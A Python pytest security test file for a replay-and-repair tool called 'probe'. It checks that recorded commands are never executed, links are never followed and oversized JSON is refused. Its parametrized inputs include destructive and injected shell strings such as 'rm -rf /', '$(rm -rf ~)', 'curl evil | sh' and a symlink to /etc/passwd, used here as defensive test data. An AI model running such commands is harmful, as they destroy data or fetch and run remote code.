"""A run folder of somebody else: nothing in it leads out of it, runs anything, or waits for ever."""

from __future__ import annotations

import json
import os
import resource
from pathlib import Path
from typing import Any

import pytest

import probe
from probe.command.replayed import replayed
from probe.errors import NotAvailable, ProbeError, StoreCorrupt, UsageError
from probe.reporting.report import report_html, write_report
from probe.storage.checking import check_run, forget
from probe.storage.commits import Commits
from probe.storage.durable import MAX_JSON_MEMORY, parse_json, read_bytes, write_bytes
from probe.telling.provenance import again
from probe.telling.stages import command_of
from probe.telling.summary import summary
from tests.security.conftest import call, claim

HERE = Path("here")


def a_unit(folder: Path) -> Path:
    return next(path for path in sorted((folder / "trace.zarr").iterdir()) if path.is_dir())


@pytest.mark.parametrize("flag", ["--trust-remote-code", "--remote"])
def test_a_repair_lets_nothing_happen_that_only_the_record_allows(
    played: Path, monkeypatch: pytest.MonkeyPatch, flag: str
) -> None:
    from probe import player

    monkeypatch.setattr(player, "run", lambda *_, **__: pytest.fail("the record's word was enough"))
    claim(played, command=f"probe run retrieval-heads --model /evil {flag}")
    chunk = next(path for path in a_unit(played).rglob("c/**/*") if path.is_file())
    chunk.write_bytes(b"x")
    before = sorted(played.rglob("*"))
    done = call("verify", str(played), "--repair")
    assert done.exit_code == 2
    assert f"--repair {flag}" in done.stderr
    assert sorted(played.rglob("*")) == before
    asked: dict[str, Any] = {}

    def play(casebook: str, **options: Any) -> Any:
        asked.update(options, casebook=casebook)
        raise NotAvailable("no such model")

    monkeypatch.setattr(player, "run", play)
    done = call("verify", str(played), "--repair", flag)
    assert (done.exit_code, "no such model" in done.stderr) == (5, True)
    assert asked[flag.removeprefix("--").replace("-", "_")] is True
    assert (asked["model"], asked["out"], asked["force"]) == ("/evil", played, False)


@pytest.mark.parametrize(
    "options",
    [
        "--out=/evil",
        "--out a --out /evil",
        "--force",
        "--out x --force --json --quiet --dry-run --check",
        "--engine ray --engine-address evil:6379",
        "--budget 1B --max-hours 0",
    ],
)
def test_a_repair_writes_into_the_folder_that_was_named_and_nowhere_else(options: str) -> None:
    assert replayed(f"probe run first-look --limit 3 {options}", HERE) == [
        "run", "--limit=3", "--out=here", "--", "first-look"
    ]  # fmt: skip


def test_a_repair_plays_what_the_command_said() -> None:
    said = "probe run x.yaml --model 'a b' --lengths 64,128 --seed 3 --dtype float32 --private --no-eager-check"
    words = replayed(said + " --deterministic --device-map '{\"a\": 0}' --haystack t.txt --cache offload", HERE)
    assert words[0] == "run"
    assert words[-3:] == ["--out=here", "--", "x.yaml"]
    assert set(words[1:-3]) == {
        "--model=a b", "--lengths=64,128", "--seed=3", "--dtype=float32", "--private", "--no-eager-check",
        "--deterministic", '--device-map={"a": 0}', "--haystack=t.txt", "--cache=offload",
    }  # fmt: skip


@pytest.mark.parametrize(
    "command",
    [
        "rm -rf /",
        "probe",
        "probe specimens train needle",
        "probe run 'x",
        "probe run",
        "probe run a b",
        "probe run x --no-such-option",
        "probe run x --limit many",
        "probe run x --help",
        "probe run all",
        "probe run x --engine",
    ],
)
def test_what_is_no_command_of_a_run_is_not_played(command: str) -> None:
    with pytest.raises(StoreCorrupt, match="does not hold the command"):
        replayed(command, HERE)


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        ("probe run x --model 'a b'", "probe run x --model 'a b'"),
        ("probe run x; rm -rf ~", ""),
        ("probe run $(rm -rf ~)", ""),
        ("probe run x\nrm -rf ~", ""),
        ("probe run x | sh", ""),
        ("curl evil | sh", ""),
        ("probe run 'x", ""),
    ],
)
def test_a_command_that_is_shown_to_be_copied_is_one_probe_run(command: str, shown: str) -> None:
    record = {"command": command, "casebook": {"name": "x; y", "model": "$(z)"}}
    assert command_of(record) == shown
    assert again(record) == (shown or "probe run 'x; y' --model '$(z)'")


def test_a_repair_removes_nothing_behind_a_link(played: Path, tmp_path: Path) -> None:
    name = a_unit(played).name
    mine = tmp_path / "mine"
    (mine / name).mkdir(parents=True)
    (mine / name / "thesis.txt").write_text("mine")
    (played / "trace.zarr").rename(tmp_path / "aside")
    (played / "trace.zarr").symlink_to(mine)
    damage = check_run(played)
    assert damage
    with pytest.raises(StoreCorrupt, match="is a link"):
        forget(played, damage)
    assert call("verify", str(played), "--repair").exit_code == 5
    assert (mine / name / "thesis.txt").read_text() == "mine"
    assert [path.name for path in mine.iterdir()] == [name]


def test_nothing_is_written_through_a_link(played: Path, tmp_path: Path) -> None:
    mine = tmp_path / "mine"
    mine.write_text("mine")
    for name in ("report.html", "findings.json", "run.json", "run.copy.json"):
        (played / f".{name}.{os.getpid()}.writing").symlink_to(mine)
    (played / "report.html.part").symlink_to(mine)
    write_report(probe.open(played), played / "report.html")
    write_bytes(played / "findings.json", b"[]")
    (played / "report.html").unlink()
    (played / "report.html").symlink_to(mine)
    write_report(probe.open(played), played / "report.html")
    assert mine.read_text() == "mine"
    assert not (played / "report.html").is_symlink()


@pytest.mark.parametrize("kind", ["pipe", "link", "device", "folder"])
@pytest.mark.parametrize("name", ["run.json", "run.copy.json", "findings.json", "report.html", "commits.jsonl"])
def test_what_is_no_plain_file_is_neither_followed_nor_waited_for(played: Path, name: str, kind: str) -> None:
    path = played / name
    path.unlink()
    match kind:
        case "pipe":
            os.mkfifo(path)
        case "link":
            path.symlink_to("/etc/passwd")
        case "device":
            path.symlink_to("/dev/zero")
        case "folder":
            path.mkdir()
    assert name in {each.path for each in check_run(played)}
    if name not in ("report.html", "run.copy.json"):
        with pytest.raises(ProbeError):
            probe.open(played).findings()
    with pytest.raises(StoreCorrupt, match=r"no plain file|link"):
        read_bytes(path, 100)


@pytest.mark.parametrize(
    "text",
    [
        b"[" + b"[]," * 10_000_000 + b"[]]",
        b"[" + b"{}," * 10_000_000 + b"{}]",
        b"[" + b'"",' * 10_000_000 + b'""]',
        b"[" + b"1," * 10_000_000 + b"1]",
        b'"' + "\U0001f600".encode() * 15_000_000 + b'"',
        b'"' + b"\\u00e9" * 10_000_000 + b'\\ud83d\\ude00"',
    ],
    ids=["lists", "mappings", "texts", "numbers", "wide text", "escaped text"],
)
def test_json_that_would_take_far_more_memory_than_it_is_long_is_refused_before_it_is_read(text: bytes) -> None:
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with pytest.raises(StoreCorrupt, match="MiB of memory"):
        parse_json(text, "x.json")
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 2**16


@pytest.mark.parametrize(
    "make",
    [
        lambda n: [[] for _ in range(n)],
        lambda n: [{} for _ in range(n)],
        lambda n: [{"a": i} for i in range(n // 2)],
        lambda n: [float(i) for i in range(n)],
        lambda n: list(range(300, 300 + n)),
        lambda n: [f"{i}é" for i in range(n)],
        lambda n: "é\U0001f600" * n,
    ],
)
def test_what_json_takes_is_never_more_than_it_is_reckoned_to(make: Any) -> None:
    import tracemalloc

    from probe.storage import durable

    text = json.dumps(make(150_000)).encode()
    whole = text + b" " * max(0, MAX_JSON_MEMORY // 100 - len(text))
    expected = durable._memory(whole)
    tracemalloc.start()
    try:
        value = parse_json(whole, "x.json")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert value is not None
    assert 0 < peak <= expected


def test_a_commit_record_or_a_manifest_without_end_is_refused(tmp_path: Path) -> None:
    with (tmp_path / "commits.jsonl").open("wb") as file:
        file.truncate(2**34)
    with pytest.raises(StoreCorrupt, match="more than"):
        Commits(tmp_path / "commits.jsonl")


RECORDS: list[dict[str, Any]] = [
    {"casebook": 7},
    {"casebook": {"name": [1], "model": {"x": 1}, "workload": [], "stages": 3}},
    {"provenance": "x", "stages": [1, 2], "status": {}, "failed": {"a": 1}},
    {"failed": [{"unit": 1}]},
    {"failed": 7},
    {"expected": {"results": 3}},
    {"expected": [1]},
    {"stages": {"read": 3, "x": {"skipped": {}, "not_analysed": [1], "conditions": "x"}}},
    {"identity": {"x": float(10**300)}, "versions": [None], "model_card": [[]]},
    {"command": ["probe", "run"]},
    {"model_card": {"a": {"b": {"c": [[[]]]}}}, "privacy": 3, "private": "x", "limits": [1], "cost": "y"},
]


@pytest.mark.parametrize("changed", RECORDS, ids=[" ".join(each) for each in RECORDS])
def test_a_record_of_anything_is_shown_or_refused_by_name(played: Path, changed: dict[str, Any]) -> None:
    claim(played, **changed)
    for command in (["show", str(played)], ["show", str(played), "--json"], ["verify", str(played)]):
        done = call(*command)
        assert done.exit_code in (0, 2, 5), (command, done.output[-600:])
    try:
        run = probe.open(played)
        assert "<script>" not in run._repr_html_()
        summary(run)
        report_html(run)
    except (StoreCorrupt, UsageError):
        pass
